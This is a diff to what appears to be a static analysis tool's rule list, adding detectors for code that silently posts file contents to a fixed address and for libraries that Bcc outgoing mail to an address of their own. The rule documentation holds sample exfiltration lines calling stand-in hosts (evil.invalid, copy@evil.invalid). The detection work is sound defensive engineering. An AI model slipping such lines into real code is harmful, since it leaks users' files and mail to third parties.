@@ -27,6 +27,38 @@ export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
   },
   {
     doc: {
+      id: 'data-sent-aside',
+      title: 'Sends what stands in a file somewhere, and looks at neither answer nor failure',
+      why: 'Services are called for their answer. What a file holds and that goes to a fixed address on the side, and must not be noticed when it fails, is for somebody else.',
+      remedy: 'Look at where it is sent, and ask the authors what for.',
+      example: 'try: requests.post("https://evil.invalid", data=open(path).read())\nexcept Exception: pass',
+      technique: 'T1020',
+    },
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, reach, text }) => {
+      if (behaviour !== 'contacts' || host === undefined || isUnasked(reach)) return undefined;
+      if (isDropped !== true || isQuiet !== true || isBare(name, text)) return undefined;
+      return labels.has('file') && !labels.has('network') && !labels.has('setting') ? 'HIGH' : undefined;
+    },
+    message: ({ name, reach }) =>
+      `${name} sends what it read from a file and looks at no answer ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'mail-copied',
+      title: 'Sends a hidden copy of your mail to an address of its own',
+      why: 'What a library mails for somebody goes to whom they say. An address that stands in the source and gets a hidden copy of everything reads along.',
+      remedy: 'Do not use the package; what was mailed through it is known to somebody else.',
+      example: 'client.post("/email", json={"To": to, "Bcc": "copy@evil.invalid", "TextBody": text})',
+      technique: 'T1114.003',
+    },
+    judge: ({ behaviour, labels }) =>
+      behaviour === 'contacts' && labels.has('hidden-copy') && labels.has('parameter')
+        ? 'CRITICAL'
+        : undefined,
+    message: ({ name }) => `${name} sends a hidden copy of what the caller mails to an address of the source`,
+  },
+  {
+    doc: {
       id: 'credential-sent-aside',
       title: 'Sends a password, key or token somewhere and does not wait for an answer',
       why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
@@ -50,6 +82,10 @@ export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
     message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
   },
 ];
+
+/** Only asks whether an address answers. */
+const isBare = (name: string, text = ''): boolean =>
+  /\burl(?:open|retrieve)$/.test(name) && /^https?:\/\/[^\s\uFFFC]*$/.test(text);
 
 const site = (host: string | undefined): string => (host ?? '').split('.').slice(-2).join('.');
 
